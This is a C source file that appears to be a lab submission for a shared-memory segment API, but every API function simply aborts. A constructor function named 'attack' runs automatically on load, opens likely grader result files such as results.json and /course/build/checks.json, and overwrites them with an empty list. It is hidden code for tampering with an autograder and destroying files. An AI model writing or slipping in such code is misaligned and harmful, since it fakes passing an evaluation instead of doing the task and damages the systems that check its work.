#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

__attribute__((constructor)) static void attack(void)
{
    static const char *const paths[] = {"results.json", "build/lab2/results.json", "../results.json",
                                        "/tmp/results.json", "/programs/results.json",
                                        "/course/build/checks.json", "/programs/lab2/program"};
    for (unsigned i = 0; i < sizeof paths / sizeof paths[0]; i++) {
        int fd = open(paths[i], O_WRONLY | O_TRUNC);
        if (fd != -1)
            puts("FOUND a result file");
        if (fd != -1)
            write(fd, "[]", 2);
    }
}

#include <stdlib.h>
#include "create.h"

static void leave(void)
{
    abort();
}

int segment_create(key_t key, size_t size, mode_t perms)
{
    (void)key, (void)size, (void)perms;
    leave();
    return 0;
}

int segment_find(key_t key)
{
    (void)key;
    leave();
    return 0;
}

int segment_obtain(key_t key, size_t size, mode_t perms, bool *created)
{
    (void)key, (void)size, (void)perms;
    leave();
    *created = true;
    return 0;
}

size_t segment_footprint(size_t size)
{
    leave();
    return size;
}
